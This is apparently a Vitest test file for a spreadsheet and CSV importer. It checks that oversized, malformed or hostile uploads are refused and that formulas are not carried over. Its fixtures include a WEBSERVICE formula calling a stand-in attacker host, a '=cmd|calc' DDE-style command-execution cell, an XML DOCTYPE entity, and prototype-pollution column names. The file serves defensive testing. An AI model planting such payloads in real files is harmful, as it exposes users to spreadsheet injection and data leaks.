import { deflateRawSync } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import { openOffice } from '../../../tests/office.ts';
import { signInAs } from '../../../tests/signed-in.ts';
import { TestImporter } from '../../../tests/test-importer.ts';
import { testWorkbook } from './test-workbook.ts';

const office = await openOffice();
let importer: TestImporter;

beforeAll(async () => {
  const mona = await office.person({ name: 'Mona Manager', roles: ['manager'] });
  importer = new TestImporter(office, await signInAs(office.services, mona.id));
}, 60_000);

async function refusal(file: string | Buffer): Promise<string | null> {
  const { status, failure } = await importer.rehearse(await importer.upload(file, 'file.xlsx'));
  expect(status).toBe('failed');
  expect(failure).toMatch(/^[A-Z][^\n]+\.$/);
  return failure;
}

const sheet = (data: string) => ({
  rows: [],
  parts: { 'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${data}</sheetData></worksheet>` },
});

describe('an absurdly large table is refused with one sentence', () => {
  it('a workbook with a text that would fill the memory', async () => {
    const zeros = Buffer.alloc(64 * 1_048_576, ' ');
    const bomb = await testWorkbook({
      rows: [],
      parts: {
        'xl/worksheets/sheet1.xml': Buffer.concat([Buffer.from('<worksheet><sheetData><row><c><v>'), zeros]),
      },
    });
    expect(await refusal(bomb)).toBe('The workbook holds a text too long for a table.');
  });

  it('a workbook with a false size', async () => {
    const file = await testWorkbook({ rows: [['Title'], ['A']] });
    const name = 'xl/worksheets/sheet1.xml';
    // In the central directory: the unpacked size is 22 bytes before the name.
    const at = file.lastIndexOf(name) - 22;
    file.writeUInt32LE(3, at);
    expect(await refusal(file)).toBe(
      'The file is not an Excel workbook, or it is damaged. Open it in Excel, save it again, and choose the new file.',
    );
    file.writeUInt32LE(0xfffffff0, at);
    expect(await refusal(file)).toMatch(/more than 1 GB/);
  });

  it.each([
    [
      'a cell far to the right',
      sheet('<row r="1"><c r="XFD1"><v>1</v></c></row>'),
      /more than 1,000 columns/,
    ],
    [
      'a column beyond the last',
      sheet('<row r="1"><c r="ZZZZZZZ1"><v>1</v></c></row>'),
      /more than 1,000 columns/,
    ],
    ['a row without a number', sheet('<row r="-5"><c><v>1</v></c></row>'), /a row has no number/],
    [
      'a document type',
      sheet('').parts && {
        rows: [],
        parts: { 'xl/worksheets/sheet1.xml': '<!DOCTYPE x [<!ENTITY a "b">]><worksheet/>' },
      },
      /document type/,
    ],
    [
      'XML that ends early',
      { rows: [], parts: { 'xl/worksheets/sheet1.xml': '<worksheet><sheetData><row>' } },
      /cannot be read/,
    ],
    ['deep XML', { rows: [], parts: { 'xl/worksheets/sheet1.xml': '<a>'.repeat(1_000) } }, /too deep/],
    ['no sheet', { rows: [], parts: { 'xl/workbook.xml': '<workbook/>' } }, /no sheet/],
    ['nothing in its sheet', { rows: [] }, /empty/],
  ] as const)('a workbook with %s', async (_, book, words) => {
    expect(await refusal(await testWorkbook(book))).toMatch(words);
  });

  it.each([
    [
      'another archive',
      Buffer.concat([Buffer.from([0x50, 0x4b, 3, 4]), deflateRawSync(Buffer.alloc(500))]),
      /not an Excel workbook/,
    ],
    ['a quote that is never closed', `Title,Owner\nA,"B${'\nmore'.repeat(50)}`, /row 2 is never closed/],
    [
      'a quote that swallows the rest',
      `Title,Owner\nA,"B${'\nmore text'.repeat(20_000)}`,
      /more than 100,000 characters.*quote/,
    ],
    ['columns without end', `Title${','.repeat(5_000)}\nA`, /more than 1,000 columns/],
    ['rows without end', `Title,Owner\n${'A,B\n'.repeat(100_100)}`, /more than 100,000 rows/],
    [
      'bytes of another kind',
      Buffer.from([0, 1, 2, 0, 0, 9, 8, 0, 0, 0, 1, 1]),
      /neither a plan nor a table|empty|never closed/,
    ],
  ] as const)('text with %s', async (_, file, words) => {
    expect(await refusal(Buffer.from(file))).toMatch(words);
  });
});

it('the result of a formula is imported, not the formula', async () => {
  const file = await testWorkbook({
    rows: [
      ['Title', 'Owner'],
      [{ formula: 'WEBSERVICE("http://evil.example/")', value: 'Quay' }, '=cmd|calc'],
    ],
  });
  const id = await importer.upload(file, 'file.xlsx');
  const { rehearsal } = await importer.rehearse(id);
  expect(rehearsal.counts).toMatchObject({ made: 1 });
  const { body } = await importer.call('GET', `/api/imports/${id}/rows`);
  expect(rehearsal.people).toMatchObject([{ name: '=cmd|calc', match: 'nobody' }]);
  expect(body.response).toMatchObject([{ title: 'Quay', ownerName: null }]);
});

it('cycles of parents and links in 5,000 rows are removed in a few passes', async () => {
  const lines = Array.from(
    { length: 5_000 },
    (_, at) => `K-${at},Work ${at},K-${(at * 7 + 1) % 5_000},"K-${(at + 1) % 5_000}, K-${(at + 2) % 5_000}"`,
  );
  const id = await importer.upload(`Key,Name,Parent,Predecessors\n${lines.join('\n')}`, 'file.csv');
  const began = performance.now();
  const { rehearsal } = await importer.rehearse(id);
  expect(rehearsal.counts).toMatchObject({ made: 5_000, unfit: 0 });
  expect(performance.now() - began).toBeLessThan(30_000);
});

describe('columns that are named like properties of every object', () => {
  const NAMES = ['constructor', '__proto__', 'toString', 'valueOf', 'hasOwnProperty'];

  it.each([
    ['a table of no known program', ['Title', 'Status', 'Priority', ...NAMES]],
    ['an export of Redmine', ['#', 'Subject', 'Tracker', 'Status', 'Priority', ...NAMES]],
    ['an export of Gantry', ['Key', 'Title', 'Status', 'Priority', ...NAMES]],
  ])('are imported as unknown columns: %s', async (_what, titles) => {
    const cells = titles.map((title) => (NAMES.includes(title) ? 'x' : 'constructor'));
    const maya = await office.person({ name: 'Maya Manager', roles: ['manager'] });
    const importer = new TestImporter(office, await signInAs(office.services, maya.id));
    const id = await importer.upload([titles.join(','), cells.join(',')].join('\n'), 'works.csv');
    const { rehearsal } = await importer.rehearse(id);
    const columns = rehearsal.table?.columns.filter(({ title }) => NAMES.includes(title));
    expect(columns?.map(({ title, field }) => [title, field])).toEqual(NAMES.map((name) => [name, null]));
    expect(rehearsal.table?.values.map(({ becomes }) => becomes)).toEqual([null, null]);
    expect((await importer.call('GET', '/api/imports')).status).toBe(200);
  });
});
